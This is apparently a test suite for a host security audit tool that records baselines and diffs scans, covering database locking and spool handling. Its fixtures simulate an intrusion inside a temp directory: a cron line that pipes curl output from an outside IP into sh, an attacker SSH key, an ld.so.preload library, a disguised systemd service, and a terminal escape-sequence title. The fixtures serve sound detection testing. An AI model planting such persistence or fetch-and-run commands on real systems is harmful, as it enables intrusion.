import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";
import { DatabaseSync } from "node:sqlite";
import { test } from "node:test";
import { openSqlite } from "../../src/store/db.ts";
import { commitScan } from "../../src/watch/pending.ts";
import { mamori } from "../helpers/cli.ts";
import { tempDir, writeTree } from "../helpers/tmp.ts";
import { doc, finding, serverRoot } from "./helpers.ts";

const NODE = process.execPath;

test("audit --save records a baseline; later changes are baseline.* findings; history and diff show them", async (t) => {
  const dir = tempDir(t);
  const root = path.join(dir, "root");
  const db = path.join(dir, "history.db");
  serverRoot(root);
  const first = await mamori(["audit", "--root", root, "--db", db, "--now", "2026-03-01T00:00:00Z"]);
  // Exit 3: a root without Apache or logs is "not fully checked"; nothing at or above the threshold.
  assert.equal(first.code, 3, first.stderr);
  assert.match(first.stderr, /Baseline recorded: \d+ item/);

  // What an intruder (or an admin) changes between two scans.
  fs.appendFileSync(
    path.join(root, "etc/cron.d/backup"),
    "*/5 * * * * root curl -s http://203.0.113.9/x|sh\n",
  );
  const keygen = spawnSync("ssh-keygen", [
    "-q",
    "-t",
    "ed25519",
    "-N",
    "",
    "-C",
    "mallory",
    "-f",
    `${dir}/k`,
  ]);
  const pub = keygen.status === 0 ? fs.readFileSync(`${dir}/k.pub`, "utf8") : undefined;
  if (pub) fs.appendFileSync(path.join(root, "home/alice/.ssh/authorized_keys"), pub);
  writeTree(root, {
    "etc/ld.so.preload": "/usr/lib/libhide.so\n",
    "etc/systemd/system/kworkerd.service": "[Service]\nExecStart=/tmp/.x/kworkerd\n",
    "var/lib/dpkg/status": [
      "Package: apache2\nStatus: install ok installed\nArchitecture: amd64\nVersion: 2.4.62-1~deb12u2\n",
      "Package: netcat-traditional\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.10-47\n",
    ].join("\n"),
  });
  const second = await mamori(["audit", "--root", root, "--save", "--db", db, "--format", "json"]);
  assert.equal(second.code, 1, second.stderr);
  const report = JSON.parse(second.stdout);
  const checks = report.findings.map((f: { check: string }) => f.check).sort();
  for (const c of ["baseline.cron", "baseline.preload", "baseline.systemd", "baseline.package"])
    assert.ok(checks.includes(c), `${c} in ${checks}`);

  const cron = report.findings.find((f: { check: string }) => f.check === "baseline.cron");
  assert.equal(cron.evidence[0].path, "/etc/cron.d/backup");
  assert.equal(cron.evidence[0].line, 2);
  assert.equal(cron.severity, "medium");
  assert.equal(cron.timeSource, "mtime", "the file's modification time, for the incident timeline");
  assert.equal(cron.time, fs.statSync(path.join(root, "etc/cron.d/backup")).mtime.toISOString());
  const pkgs = report.findings.filter((f: { check: string }) => f.check === "baseline.package");
  assert.deepEqual(pkgs.map((f: { severity: string }) => f.severity).sort(), ["info", "info", "info"]); // upgrade, new, removed
  if (pub) {
    const key = report.findings.find((f: { check: string }) => f.check === "baseline.key");
    const fp = spawnSync("ssh-keygen", ["-lf", `${dir}/k.pub`], { encoding: "utf8" }).stdout.split(" ")[1];
    assert.equal(key.data.user, "alice");
    assert.ok(key.evidence[0].value.includes(fp), "fingerprint as ssh-keygen prints it");
    assert.equal(key.severity, "high");
  }

  const hist = await mamori(["history", "--db", db, "--format", "json"]);
  assert.equal(hist.code, 0, hist.stderr);
  const h = JSON.parse(hist.stdout).sections.history;
  assert.equal(h.scans.length, 2);
  assert.equal(h.scans[0].host, "web1");
  assert.equal(h.scans[1].startedAt, "2026-03-01T00:00:00.000Z");
  assert.equal(h.scans[0].total, report.findings.length);
  assert.ok(h.scans[0].counts.high >= 1);

  const diff = await mamori(["diff", "--db", db, "--format", "json"]);
  assert.equal(diff.code, 1, "new findings at or above low");
  const d = JSON.parse(diff.stdout).sections.diff;
  assert.equal(d.from, h.scans[1].id);
  assert.equal(d.to, h.scans[0].id);
  assert.equal(d.new.length, report.findings.length);
  assert.equal(d.resolved.length, 0);

  // A third scan with nothing changed: the same ids, nothing new; the baseline findings persist until accepted.
  await mamori(["audit", "--root", root, "--db", db]);
  const d2 = JSON.parse((await mamori(["diff", "--db", db, "--format", "json"])).stdout).sections.diff;
  assert.equal(d2.new.length, 0);
  assert.equal(d2.unchanged, report.findings.length);
  const human = await mamori(["diff", "--db", db]);
  assert.equal(human.code, 0);
  assert.match(human.stdout, /Nothing changed/);
});

test("diff: new, resolved and changed (severity, confidence, evidence); scans by prefix; both languages", async (t) => {
  const dir = tempDir(t);
  const db = path.join(dir, "h.db");
  const store = await openSqlite(db);
  const a = [
    finding("x.same:1"),
    finding("x.gone:1"),
    finding("x.sev:1", { severity: "medium" }),
    finding("x.ev:1", { evidence: [{ path: "/a", line: 1 }] }),
  ];
  const b = [
    finding("x.same:1"),
    finding("x.sev:1", { severity: "critical", confidence: "confirmed" }),
    finding("x.ev:1", { evidence: [{ path: "/a", line: 2, value: "\x1b[31mred" }] }),
    finding("x.new:1", { title: "evil\x1b]0;pwned\x07 title" }),
  ];
  await commitScan(store, {
    version: 2,
    scanId: "20260101T000000Z-aaaa",
    startedAt: "2026-01-01T00:00:00Z",
    hostId: "web1",
    doc: doc(a, "2026-01-01T00:00:00Z"),
    cursors: [],
  });
  await commitScan(store, {
    version: 2,
    scanId: "20260102T000000Z-bbbb",
    startedAt: "2026-01-02T00:00:00Z",
    hostId: "web1",
    doc: doc(b, "2026-01-02T00:00:00Z"),
    cursors: [],
  });
  await store.close();
  const r = await mamori(["diff", "20260101", "20260102", "--db", db, "--format", "json"]);
  assert.equal(r.code, 1);
  const d = JSON.parse(r.stdout).sections.diff;
  assert.deepEqual(
    d.new.map((f: { id: string }) => f.id),
    ["x.new:1"],
  );
  assert.deepEqual(
    d.resolved.map((f: { id: string }) => f.id),
    ["x.gone:1"],
  );
  assert.deepEqual(
    d.changed.map((c: { id: string; changes: string[] }) => [c.id, c.changes]),
    [
      ["x.ev:1", ["evidence"]],
      ["x.sev:1", ["severity", "confidence"]],
    ],
  );
  assert.equal(d.unchanged, 1);
  const en = await mamori(["diff", "--db", db]);
  assert.match(en.stdout, /New \(1\)/);
  assert.match(en.stdout, /Resolved \(1\)/);
  assert.match(en.stdout, /severity: MEDIUM -> CRITICAL/);
  assert.doesNotMatch(
    en.stdout,
    /\x1b/,
    "attacker bytes in titles and evidence are escaped for the terminal",
  );
  const ja = await mamori(["diff", "--db", db, "--lang", "ja"]);
  assert.match(ja.stdout, /新規 \(1\)/);
  assert.match(ja.stdout, /深刻度: 警告 -> 緊急/);
  const unknown = await mamori(["diff", "nosuch", "--db", db]);
  assert.equal(unknown.code, 2);
  assert.match(unknown.stderr, /no stored scan matches nosuch/);
  const tooFew = await mamori(["diff", "--db", path.join(dir, "empty.db")]);
  assert.equal(tooFew.code, 2);
  assert.match(tooFew.stderr, /need two stored scans/);
});

test("a locked database: the scan goes to a spool file beside it and is imported next time", async (t) => {
  const dir = tempDir(t);
  const root = path.join(dir, "root");
  serverRoot(root);
  const db = path.join(dir, "h.db");
  const cfg = path.join(dir, "config.yaml");
  fs.writeFileSync(cfg, "store:\n  busyTimeoutMs: 150\n");
  const env = { MAMORI_CONFIG: cfg };
  assert.equal((await mamori(["audit", "--root", root, "--db", db], { env })).code, 3);
  // Another writer holds the write lock (a long manual scan, a backup tool...).
  const other = new DatabaseSync(db);
  other.exec("BEGIN IMMEDIATE; INSERT INTO baselines VALUES ('h','k','x','v','s','t');");
  t.after(() => other.close());
  const r = await mamori(["audit", "--root", root, "--db", db, "--lang", "ja"], { env });
  assert.equal(r.code, 3, r.stderr);
  assert.match(r.stderr, /データベースがロックされています/);
  const spool = fs.readdirSync(`${db}.spool`);
  assert.equal(spool.length, 1, "one spooled scan");
  other.exec("ROLLBACK");
  const next = await mamori(["audit", "--root", root, "--db", db], { env });
  assert.match(next.stderr, /Imported 1 spooled scan/);
  assert.equal(fs.readdirSync(`${db}.spool`).length, 0);
  const h = JSON.parse((await mamori(["history", "--db", db, "--format", "json"], { env })).stdout).sections
    .history;
  assert.equal(h.scans.length, 3, "no scan lost");
});

test("two processes writing at once do not corrupt the database (WAL, busy_timeout, BEGIN IMMEDIATE)", async (t) => {
  const dir = tempDir(t);
  const db = path.join(dir, "h.db");
  const writer = path.join(import.meta.dirname, "fixtures/writer.ts");
  const run = (tag: string) =>
    new Promise<{ code: number | null; err: string }>((resolve) => {
      const p = spawn(NODE, [writer, db, tag, "25"], { stdio: ["ignore", "ignore", "pipe"] });
      let err = "";
      p.stderr.on("data", (b) => (err += b));
      p.on("close", (code) => resolve({ code, err }));
    });
  const results = await Promise.all([run("a"), run("b")]);
  for (const r of results) assert.equal(r.code, 0, r.err);
  const check = new DatabaseSync(db, { readOnly: true });
  t.after(() => check.close());
  assert.equal(check.prepare("pragma integrity_check").get()?.integrity_check, "ok");
  assert.equal(check.prepare("pragma journal_mode").get()?.journal_mode, "wal");
  assert.equal((check.prepare("select count(*) n from scans").get() as { n: number }).n, 50);
  assert.equal((check.prepare("select count(*) n from findings").get() as { n: number }).n, 1000);
  assert.equal((check.prepare("select count(*) n from log_cursors").get() as { n: number }).n, 2);
});

test("a full disk is reported; the scan is spooled on another filesystem and imported when there is room", async (t) => {
  if (process.getuid?.() !== 0) return t.skip("needs root to mount a small tmpfs");
  const dir = tempDir(t);
  const mnt = fs.mkdtempSync(path.join(dir, "..", "mamori-full-"));
  // 0700: a tmpfs root is 1777 by default, and mamori refuses to keep root's history where others can write.
  const m = spawnSync("mount", ["-t", "tmpfs", "-o", "size=1m,mode=0700", "tmpfs", mnt], {
    encoding: "utf8",
  });
  if (m.status !== 0) return t.skip(`cannot mount a tmpfs: ${m.stderr.trim()}`);
  t.after(() => {
    spawnSync("umount", [mnt]);
    fs.rmSync(mnt, { recursive: true, force: true });
  });
  const root = path.join(dir, "root");
  serverRoot(root);
  const db = path.join(mnt, "h.db");
  const env = { MAMORI_SPOOL_DIR: path.join(dir, "spool") };
  assert.equal((await mamori(["audit", "--root", root, "--db", db], { env })).code, 3);
  // Fill the filesystem to the last block.
  const filler = path.join(mnt, "filler");
  const fd = fs.openSync(filler, "w");
  try {
    for (;;) fs.writeSync(fd, Buffer.alloc(4096, 1));
  } catch (err) {
    assert.equal((err as NodeJS.ErrnoException).code, "ENOSPC");
  } finally {
    fs.closeSync(fd);
  }
  const full = await mamori(["audit", "--root", root, "--db", db], { env });
  assert.equal(full.code, 3, full.stderr);
  assert.match(full.stderr, /Could not write the history database .*(disk is full)/);
  const spooled = readSpoolFiles(path.join(dir, "spool"));
  assert.equal(spooled.length, 1, "the scan waits on another filesystem");
  fs.rmSync(filler);
  const next = await mamori(["audit", "--root", root, "--db", db], { env });
  assert.match(next.stderr, /Imported 1 spooled scan/);
  assert.equal(readSpoolFiles(path.join(dir, "spool")).length, 0);
  const h = JSON.parse((await mamori(["history", "--db", db, "--format", "json"], { env })).stdout).sections
    .history;
  assert.equal(h.scans.length, 3);
});

function readSpoolFiles(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  return fs
    .readdirSync(dir)
    .flatMap((d) => fs.readdirSync(path.join(dir, d)).filter((f) => f.endsWith(".json")));
}

test("a database of several hosts: diff compares scans of one host; history filters by host", async (t) => {
  const dir = tempDir(t);
  const db = path.join(dir, "fleet.db");
  const store = await openSqlite(db);
  const add = (id: string, host: string, at: string, ids: string[]) =>
    commitScan(store, {
      version: 2,
      scanId: id,
      startedAt: at,
      hostId: host,
      doc: doc(
        ids.map((i) => finding(i)),
        at,
        host,
      ),
      cursors: [],
    });
  await add("20260101T010000Z-a1", "a", "2026-01-01T01:00:00Z", ["x:1"]);
  await add("20260101T020000Z-b1", "b", "2026-01-01T02:00:00Z", ["y:1"]);
  await add("20260101T030000Z-a2", "a", "2026-01-01T03:00:00Z", ["x:1", "x:2"]);
  await add("20260101T040000Z-b2", "b", "2026-01-01T04:00:00Z", []);
  await store.close();
  const d = JSON.parse((await mamori(["diff", "--db", db, "--format", "json"])).stdout).sections.diff;
  assert.deepEqual([d.from, d.to], ["20260101T020000Z-b1", "20260101T040000Z-b2"]);
  assert.deepEqual(
    d.resolved.map((f: { id: string }) => f.id),
    ["y:1"],
  );
  const a = JSON.parse((await mamori(["diff", "--db", db, "--host", "a", "--format", "json"])).stdout)
    .sections.diff;
  assert.deepEqual([a.from, a.to], ["20260101T010000Z-a1", "20260101T030000Z-a2"]);
  const h = JSON.parse((await mamori(["history", "--db", db, "--host", "a", "--format", "json"])).stdout)
    .sections.history;
  assert.deepEqual(
    h.scans.map((s: { id: string }) => s.id),
    ["20260101T030000Z-a2", "20260101T010000Z-a1"],
  );
});

test("the fallback spool directory is refused when someone else could swap it", async (t) => {
  const { writeSpool } = await import("../../src/watch/pending.ts");
  const dir = tempDir(t);
  const shared = path.join(dir, "shared");
  fs.mkdirSync(shared, { mode: 0o777 });
  fs.chmodSync(shared, 0o777); // world-writable, as a directory another user made in /tmp would be
  const p = {
    version: 2 as const,
    scanId: "s1",
    startedAt: "2026-01-01T00:00:00Z",
    hostId: "h",
    doc: doc([], "2026-01-01T00:00:00Z"),
    cursors: [],
  };
  // The database's own directory is unwritable (a file where the directory should be): only the fallback is left.
  fs.writeFileSync(path.join(dir, "db-is-a-file"), "");
  const db = path.join(dir, "db-is-a-file", "h.db");
  assert.throws(() => writeSpool(db, p, shared));
  assert.deepEqual(fs.readdirSync(shared), [], "nothing written under a directory others can write");
  fs.chmodSync(shared, 0o700);
  const file = writeSpool(db, p, shared);
  assert.ok(file.startsWith(shared));
  assert.equal(fs.statSync(path.dirname(file)).mode & 0o777, 0o700);
});
